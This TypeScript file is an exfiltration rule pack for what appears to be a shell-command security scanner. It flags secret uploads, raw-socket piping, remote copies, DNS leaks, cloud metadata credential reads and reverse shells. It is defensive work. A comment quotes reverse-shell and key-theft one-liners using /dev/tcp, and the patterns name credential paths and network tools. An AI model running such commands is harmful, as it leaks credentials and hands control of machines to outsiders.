// Exfiltration: secrets, credentials or the environment sent off the machine (HTTP uploads, raw sockets, copies to a remote, DNS).
import type { SecurityFinding } from '../types.js';
import { DYN, SHELLS, finding } from '../model.js';
import type { SimpleCommand } from '../model.js';
import { classifyPath, homeAlias, normPath } from '../paths.js';
import { isCredentialFile, isSecretPath } from '../secrets.js';
import { operands, q } from './rule.js';
import type { RulePack } from './rule.js';

const ASSIGN = /^[A-Za-z_][A-Za-z0-9_]*=/;

function secretWord(word: string, cwd: string | undefined, test: (p: string) => boolean = isSecretPath): boolean {
  const p = normPath(word, cwd);
  return p !== null && test(homeAlias(p));
}

/** Prints every environment variable (tokens and keys included). */
function dumpsEnv(c: SimpleCommand): boolean {
  const a = c.argv;
  switch (c.name) {
    case 'env':
      return a.slice(1).every((w) => w.startsWith('-') || ASSIGN.test(w));
    case 'printenv':
      return true;
    case 'set':
      return a.length === 1;
    case 'export':
    case 'declare':
    case 'typeset':
      return a.slice(1).every((w) => /^-[a-zA-Z]*$/.test(w));
    case 'compgen':
      return a.includes('-e') || a.includes('-v');
    default:
      return false;
  }
}

/** What secret `c` reads (a path word, or a description), or null. */
function readsSecret(c: SimpleCommand, test: (p: string) => boolean = isSecretPath): string | null {
  for (const op of operands(c.argv)) {
    const w = op.startsWith('@') ? op.slice(1) : op.startsWith('if=') ? op.slice(3) : op;
    if (secretWord(w, c.cwd, test)) return op;
  }
  for (const r of c.redirects) if (r.op === '<' && secretWord(r.target, c.cwd, test)) return r.target;
  if (c.name === 'gpg' && c.argv.some((w) => /^--export-secret-(sub)?keys/.test(w))) return 'the GPG secret keys';
  if (c.name === 'security' && /^find-(generic|internet)-password$/.test(c.argv[1] ?? '') && c.argv.some((w) => /^-[a-zA-Z]*[wg]$/.test(w))) return 'a keychain password';
  return null;
}

/** What leaks from `c`: a secret file or the environment. */
function leakOf(c: SimpleCommand): string | null {
  return dumpsEnv(c) ? 'the environment' : readsSecret(c);
}

function leakIn(cmds: readonly SimpleCommand[]): string | null {
  for (const c of cmds) {
    const l = leakOf(c);
    if (l !== null) return l;
  }
  return null;
}

/** The secret reaching stdin of `cmd`: a `<` redirect from a secret file, or a leaking command upstream. */
function stdinLeak(cmd: SimpleCommand): string | null {
  for (const r of cmd.redirects) if (r.op === '<' && secretWord(r.target, cmd.cwd)) return r.target;
  return leakIn(cmd.feeders);
}

function blocked(out: SecurityFinding[], rule: string, what: string, how: string, cmd: SimpleCommand): void {
  out.push(finding(rule, 'CRITICAL', `Blocked sending ${what.startsWith('the ') ? what : q(what)} off the machine ${how}: it holds secrets or credentials.`, cmd));
}

// curl/wget options whose value is a file to send ('file'), or data where `@file` sends a file ('data').
const SEND_OPTS: Record<string, 'file' | 'data' | 'form' | 'urlencode'> = {
  '-T': 'file', '--upload-file': 'file', '--post-file': 'file', '--body-file': 'file',
  '-d': 'data', '--data': 'data', '--data-ascii': 'data', '--data-binary': 'data', '--json': 'data',
  '-F': 'form', '--form': 'form', '--data-urlencode': 'urlencode', '--url-query': 'urlencode',
};

/** Files an HTTP client sends: [file, option]; '-' is stdin. */
function sentFiles(a: readonly string[]): [string, string][] {
  const out: [string, string][] = [];
  for (let i = 1; i < a.length; i++) {
    const w = a[i];
    let opt: string | undefined;
    let value: string | undefined;
    if (SEND_OPTS[w] !== undefined) [opt, value] = [w, a[++i]];
    else if (w.startsWith('--') && w.includes('=')) [opt, value] = [w.slice(0, w.indexOf('=')), w.slice(w.indexOf('=') + 1)];
    else if (/^-[dFT]./.test(w)) [opt, value] = [w.slice(0, 2), w.slice(2)];
    const kind = opt === undefined ? undefined : SEND_OPTS[opt];
    if (kind === undefined || value === undefined) continue;
    const m = kind === 'file' ? [value, value] : kind === 'data' ? /^@(.*)$/s.exec(value) : kind === 'form' ? /^[^=]*=[@<]([^;]*)/.exec(value) : /^[^=@]*@(.*)$/s.exec(value);
    if (m !== null) out.push([m[1] === '/dev/stdin' || (kind === 'file' && m[1] === '.') ? '-' : m[1], opt as string]);
  }
  return out;
}

// httpie/xh request items that send a file: `field=@file`, `field:=@file`, `field@file`, `@file`.
const HTTPIE_FILE = /^(?:[^=@:/]*(?::?=)?)?@(.+)$/s;

const METADATA = /(^|[/@[])(169\.254\.169\.254|169\.254\.170\.2|fd00:ec2::254|metadata\.google\.internal|metadata\.goog|100\.100\.100\.200)([\]:/\u0000]|$)/i;
const METADATA_CREDENTIALS = /\/(iam\/security-credentials|identity-credentials|service-accounts\/[^/\s]+\/(token|identity)|identity\/oauth2\/token|v2\/credentials|ram\/security-credentials)|169\.254\.170\.2\/?\u0000/i;

function httpClient(cmd: SimpleCommand, out: SecurityFinding[]): void {
  const a = cmd.argv;
  if (a.includes('--help')) return;
  const httpie = cmd.name !== 'curl' && cmd.name !== 'wget';
  const files = httpie ? operands(a).filter((w) => !w.includes('://')).map((w): [string, string] | null => { const m = HTTPIE_FILE.exec(w); return m === null ? null : [m[1], w]; }).filter((x): x is [string, string] => x !== null) : sentFiles(a);
  for (const [file, opt] of files) {
    if (file !== '-' && secretWord(file, cmd.cwd)) return blocked(out, 'exfil.upload-secret', file, `with ${cmd.name} ${opt}`, cmd);
  }
  if (httpie || files.some(([f]) => f === '-')) {
    const l = stdinLeak(cmd);
    if (l !== null) return blocked(out, 'exfil.pipe-secret', l, `through ${cmd.name}'s standard input`, cmd);
  }
  const sub = leakIn(cmd.argFeeders);
  if (sub !== null) return blocked(out, 'exfil.url-secret', sub, `inside the words of a ${cmd.name} request`, cmd);
  const meta = a.find((w) => METADATA.test(w));
  if (meta !== undefined) {
    if (METADATA_CREDENTIALS.test(a.join(' '))) {
      out.push(finding('exfil.metadata-credentials', 'CRITICAL', `Blocked reading cloud credentials from the instance metadata service (${q(meta)}): they give access to the cloud account.`, cmd));
    } else {
      out.push(finding('exfil.metadata', 'HIGH', `${cmd.name} reads the cloud instance metadata service (${q(meta)}), which hands out the machine's identity and credentials.`, cmd));
    }
  }
}

/** nc, socat, ssh, telnet: whatever reaches their stdin goes to the other end. */
function rawSocket(cmd: SimpleCommand, out: SecurityFinding[]): void {
  const a = cmd.argv;
  if (cmd.name === 'openssl' && a[1] !== 's_client') return;
  if (cmd.name === 'socat' || cmd.name === 'ncat' || cmd.name === 'nc' || cmd.name === 'netcat') {
    const file = a.map((w) => /^(?:file|open|gopen|readline|read):([^,]+)/i.exec(w)?.[1]).find((f) => f !== undefined && secretWord(f, cmd.cwd));
    if (file !== undefined) return blocked(out, 'exfil.pipe-secret', file, `with ${cmd.name}`, cmd);
    if (a.some((w) => /^-[a-zA-Z]*[ec]$|^--(sh-)?exec(=|$)|^(exec|system):/i.test(w))) {
      out.push(finding('exfil.reverse-shell', 'CRITICAL', `Blocked ${cmd.name} handing a program to a network peer: whoever connects controls this machine.`, cmd));
      return;
    }
  }
  const l = stdinLeak(cmd) ?? leakIn(cmd.argFeeders);
  if (l !== null) blocked(out, 'exfil.pipe-secret', l, `through ${cmd.name}`, cmd);
}

// Options of scp/rsync that take a value (so `-i ~/.ssh/key` is not taken for a file being copied).
const SCP_VALUE = new Set('cDFiJloPSX'.split(''));
const RSYNC_VALUE = new Set('efBTM'.split(''));
// `host:path`, `user@host:path`, `host::module`, `scheme://...`; not a Windows drive (`C:\x`).
const REMOTE = /^(?:[a-z][\w+.-]*:\/\/|(?:[^@/:\s]+@)?(?![A-Za-z]:\\)[^/:\s]+::?)/i;

/** The operands of scp/rsync once options and their values are skipped. */
function copyOperands(a: readonly string[], shortValue: Set<string>): string[] {
  const ops: string[] = [];
  for (let i = 1; i < a.length; i++) {
    const w = a[i];
    if (w === '--') {
      ops.push(...a.slice(i + 1));
      break;
    }
    if (w.startsWith('--')) {
      if (!w.includes('=') && /^--(rsh|exclude|include|filter|files-from|exclude-from|include-from|password-file|port|chmod|chown|temp-dir|log-file|bwlimit|partial-dir|backup-dir|suffix|timeout|rsync-path|max-size|min-size|compare-dest|copy-dest|link-dest|block-size|sockopts|out-format|usermap|groupmap|info|debug|iconv|checksum-choice|compress-choice|skip-compress)$/.test(w)) i++;
      continue;
    }
    if (w.length > 1 && w[0] === '-') {
      for (let k = 1; k < w.length; k++) {
        if (!shortValue.has(w[k])) continue;
        if (k + 1 === w.length) i++;
        break;
      }
      continue;
    }
    ops.push(w);
  }
  return ops;
}

function copyToRemote(cmd: SimpleCommand, out: SecurityFinding[]): void {
  const a = cmd.argv;
  let sources: string[] = [];
  let dest: string | undefined;
  if (cmd.name === 'scp' || cmd.name === 'rsync') {
    const ops = copyOperands(a, cmd.name === 'scp' ? SCP_VALUE : RSYNC_VALUE);
    dest = ops.pop();
    sources = ops;
  } else if (cmd.name === 'rclone') {
    const ops = operands(a);
    if (/^(copy|copyto|sync|move|moveto)$/.test(ops[0] ?? '')) [sources, dest] = [[ops[1] ?? ''], ops[2]];
  } else if (cmd.name === 'aws' || cmd.name === 'gsutil' || cmd.name === 'gcloud') {
    const ops = operands(a).filter((w) => w !== 's3' && w !== 'storage' && w !== 'alpha');
    if (/^(cp|mv|sync|rsync)$/.test(ops[0] ?? '') && ops.length >= 3) [sources, dest] = [ops.slice(1, -1), ops[ops.length - 1]];
  } else if (cmd.name === 'sftp') {
    let text = cmd.stdinText ?? '';
    for (const f of cmd.feeders) if (f.name === 'echo' || f.name === 'printf') text += '\n' + f.argv.slice(1).join(' ');
    for (const m of text.matchAll(/(?:^|[\n;])\s*(?:put|mput|reput)\s+(?:-\w+\s+)*(\S+)/g)) sources.push(m[1]);
    dest = 'remote:';
  }
  if (dest === undefined || !REMOTE.test(dest)) return;
  const src = sources.find((s) => !REMOTE.test(s) && secretWord(s, cmd.cwd));
  if (src !== undefined) blocked(out, 'exfil.copy-secret', src, `with ${cmd.name} to ${q(dest)}`, cmd);
}

const LABEL_AFTER_SUB = /\u0000[^\s\u0000]*\.[A-Za-z0-9-]+/;

/** DNS lookups of a name built from a command's output: the name itself carries the data out. */
function dnsLookup(cmd: SimpleCommand, out: SecurityFinding[]): void {
  if (cmd.argFeeders.length === 0) return;
  const leak = leakIn(cmd.argFeeders);
  const built = operands(cmd.argv).find((w) => w.includes(DYN) && !w.startsWith('@') && LABEL_AFTER_SUB.test(w));
  if (leak === null && built === undefined) return;
  out.push(finding('exfil.dns', 'CRITICAL', `Blocked a ${cmd.name} lookup of a name built from ${leak ?? 'command output'}: resolving it sends that data to whoever runs the domain's DNS.`, cmd));
}

const KEY_COPIERS = new Set(['cp', 'mv', 'install', 'ditto', 'rsync']);
const CLIPBOARD = new Set(['pbcopy', 'xclip', 'xsel', 'wl-copy', 'clip', 'clip.exe']);
const ARCHIVERS = new Set(['tar', 'zip', '7z', '7za', 'gzip', 'bzip2', 'xz', 'zstd']);

/** Private keys and credentials copied out of where they live: a step before sending them anywhere. */
function keyCopy(cmd: SimpleCommand, out: SecurityFinding[]): void {
  let src: string | null = null;
  if (KEY_COPIERS.has(cmd.name)) {
    const ops = operands(cmd.argv);
    const dest = ops.pop();
    const d = dest === undefined ? null : normPath(dest, cmd.cwd);
    if (d === null || classifyPath(homeAlias(d)) === 'home-secret' || REMOTE.test(dest ?? '')) return;
    src = ops.find((o) => secretWord(o, cmd.cwd, isCredentialFile)) ?? null;
  } else if (CLIPBOARD.has(cmd.name)) {
    src = cmd.feeders.map((f) => readsSecret(f, isCredentialFile)).find((s) => s !== null) ?? null;
  } else if (ARCHIVERS.has(cmd.name)) {
    const a = cmd.argv;
    if ((cmd.name === 'tar' && /^-?[a-zA-Z]*[xt]/.test(a[1] ?? '')) || a.includes('--extract') || a.includes('--list') || a.includes('-d')) return;
    src = readsSecret(cmd, isCredentialFile);
  } else if (cmd.name === 'dd') {
    if (cmd.argv.some((w) => w.startsWith('of='))) src = readsSecret(cmd, isCredentialFile);
  } else if (cmd.redirects.some((r) => /^>>?$|^>\|$/.test(r.op) && !r.target.startsWith('/dev/'))) {
    src = readsSecret(cmd, isCredentialFile);
  }
  if (src !== null) out.push(finding('exfil.key-copy', 'HIGH', `${cmd.name} copies the private key or credentials ${q(src)} out of where they are kept.`, cmd));
}

/** `cat ~/.ssh/id_rsa > /dev/tcp/host/port`, `bash -i >& /dev/tcp/host/port 0>&1`: bash's own sockets. */
function devTcp(cmd: SimpleCommand, out: SecurityFinding[]): void {
  const sock = cmd.redirects.find((r) => /^\/dev\/(tcp|udp)\//.test(r.target));
  if (sock === undefined) return;
  const l = sock.op.includes('>') ? leakOf(cmd) ?? stdinLeak(cmd) : null;
  if (l !== null) return blocked(out, 'exfil.pipe-secret', l, `through the socket ${q(sock.target)}`, cmd);
  if (SHELLS.has(cmd.name)) {
    out.push(finding('exfil.reverse-shell', 'CRITICAL', `Blocked a shell wired to the network socket ${q(sock.target)}: whoever is at the other end controls this machine.`, cmd));
  }
}

export const exfiltrationPack: RulePack = {
  name: 'exfiltration',
  // Every rule needs a secret path, a substitution or a redirect (which force the parse), or a sender that is already a keyword.
  keywords: [],
  rules: [
    { commands: ['curl', 'wget', 'http', 'https', 'xh', 'xhs'], check: httpClient },
    { commands: ['nc', 'ncat', 'netcat', 'socat', 'telnet', 'ssh', 'openssl'], check: rawSocket },
    { commands: ['scp', 'rsync', 'sftp', 'rclone', 'aws', 'gsutil', 'gcloud'], nameIsKeyword: false, check: copyToRemote },
    { commands: ['dig', 'nslookup', 'host', 'drill', 'kdig', 'delv', 'ping', 'ping6', 'traceroute', 'traceroute6', 'tracepath', 'getent', 'resolvectl'], nameIsKeyword: false, check: dnsLookup },
    { commands: [...KEY_COPIERS, ...CLIPBOARD, ...ARCHIVERS, 'cat', 'base64', 'xxd', 'head', 'tail', 'tac', 'od', 'hexdump', 'gpg', 'openssl', 'dd'], nameIsKeyword: false, check: keyCopy },
    { commands: ['*'], nameIsKeyword: false, check: devTcp },
  ],
};
